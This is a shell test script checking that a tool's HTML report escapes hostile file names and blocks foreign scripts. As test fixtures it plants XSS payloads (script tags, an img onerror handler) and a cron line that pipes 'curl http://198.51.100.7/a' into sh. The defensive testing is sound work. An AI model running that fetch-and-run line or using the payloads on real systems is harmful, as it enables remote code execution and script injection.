#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
#
# herdfs report --html: a page of a herd with hostile names, put in its place
# when it is whole. Where Chromium is installed it shows the page: nothing out
# of an image runs, the page's own script does, and nothing is refused. The
# pictures stay in the log folder, to be looked at.

# shellcheck source=tests/mount/lib.sh
. "$(dirname "$0")/lib.sh"
need python3
# shellcheck source=tests/mount/herd.sh
. tests/mount/herd.sh

small_herd
mkdir -p "$dir/tree/etc/cron.d"
printf 'x' >"$dir/tree/etc/<script>document.title='owned'<"
printf 'x' >"$dir/tree/etc/\"><img src=x onerror=document.title='owned'>"
printf 'x' >"$dir/tree/etc/$(printf '\377\376\342\200\256')<b>"
printf '%s\n' '</pre></details><script>document.title="owned"</script>' \
	>"$dir/tree/etc/x.conf"
printf '* * * * * root curl http://198.51.100.7/a | sh\n' >"$dir/tree/etc/cron.d/x"
to_image "$dir/tree" "$dir/i-5.raw"
attach --asg web --instance '"><script>document.title=1' "$dir/i-5.raw"

mkdir "$dir/pages"
echo before >"$dir/pages/herd.html"
"$HERDFS" report --html "$dir/pages/herd.html" || fail report
[ "$(ls "$dir/pages")" = herd.html ] || fail "left behind: $(ls "$dir/pages")"
"$HERDFS" report --html - --asg web >"$dir/out.html" || fail "report to stdout"
cmp "$dir/pages/herd.html" "$dir/out.html" || fail "stdout has something else"
(umask 077 && "$HERDFS" report --html "$dir/pages/own.html")
[ "$(stat -c %a "$dir/pages/own.html")" = 600 ] || fail "umask"
"$HERDFS" report --html "$dir/nosuch/x.html" 2>/dev/null && fail "written nowhere"
"$HERDFS" report 2>/dev/null
[ $? -eq 2 ] || fail "no --html"
"$HERDFS" report --html /dev/full 2>/dev/null && fail "a full disk"

# What a parser of HTML makes of it.
python3 - "$dir/pages/herd.html" <<'END' || failed=1
import html.parser, re, sys
text = open(sys.argv[1], encoding="utf-8").read()
assert not re.search(r"https?://", re.sub(r"http://198\.51\.100\.7", "", text)), "a link leads out"
class Page(html.parser.HTMLParser):
    scripts = images = 0
    shown = ""
    def handle_starttag(self, tag, attrs):
        self.scripts += tag == "script"
        assert tag not in ("img", "iframe", "link", "object", "svg"), tag
        for name, value in attrs:
            assert not name.startswith("on") and name not in ("src", "style"), name
            assert name != "href" or value.startswith("#"), value
    def handle_data(self, data):
        self.shown += data
page = Page()
page.feed(text)
assert page.scripts == 1, page.scripts
for want in ("/etc/<script>document.title='owned'<", "/etc/\"><img src=x",
             "/etc/\\xff\\xfe", "curl http://198.51.100.7/a | sh",
             "+ </pre></details><script>"):
    assert want in page.shown, want
END

browser=
for b in chromium chromium-browser google-chrome; do
	command -v $b >/dev/null && browser=$b && break
done
if [ -z "$browser" ]; then
	[ $failed -eq 0 ] || finish
	echo "no Chromium: the page was parsed and not shown"
	exit 77
fi

look() {	# WIDTH HEIGHT OUT OPTION…
	local width=$1 height=$2 out=$3
	shift 3
	HOME=$dir XDG_CONFIG_HOME=$dir/browser XDG_CACHE_HOME=$dir/browser \
	timeout 120 $browser --headless --no-sandbox --disable-gpu --disable-quic \
		--no-first-run --disable-background-networking \
		--disable-component-update --disable-sync --hide-scrollbars \
		--enable-logging=stderr --user-data-dir="$(mktemp -d "$dir/profile.XXXX")" \
		--window-size="$width,$height" "$@" \
		"file://$dir/pages/herd.html" >"$out" 2>"$out.err"
}
shots=${LOG:-$dir}
for width in 1280 800; do
	look $width 2400 "$dir/shot.log" --screenshot="$shots/report-$width.png"
	[ "$(stat -c %s "$shots/report-$width.png" 2>/dev/null || echo 0)" -gt 20000 ] ||
		{ fail "no picture at $width"; tail -5 "$dir/shot.log.err"; }
done
look 1280 900 "$dir/dom" --dump-dom
grep -q '<html[^>]* class="js"' "$dir/dom" || fail "its own script did not run"
grep -q '<title>web: what deviates from the herd</title>' "$dir/dom" ||
	fail "a script out of an image ran"
grep -hiE 'CONSOLE|refused|violat' "$dir"/*.err |
	grep -v 'ERR_INTERNET' >"$dir/console" && { fail "the console says:"; cat "$dir/console"; }
# the policy holds: a script that is not ours does not run
sed 's|</body>|<script>document.title="owned"</script></body>|' "$dir/pages/herd.html" \
	>"$dir/pages/x.html" && mv "$dir/pages/x.html" "$dir/pages/herd.html"
look 1280 900 "$dir/dom" --dump-dom
grep -q '<title>owned' "$dir/dom" && fail "the policy of the page holds nothing off"
finish
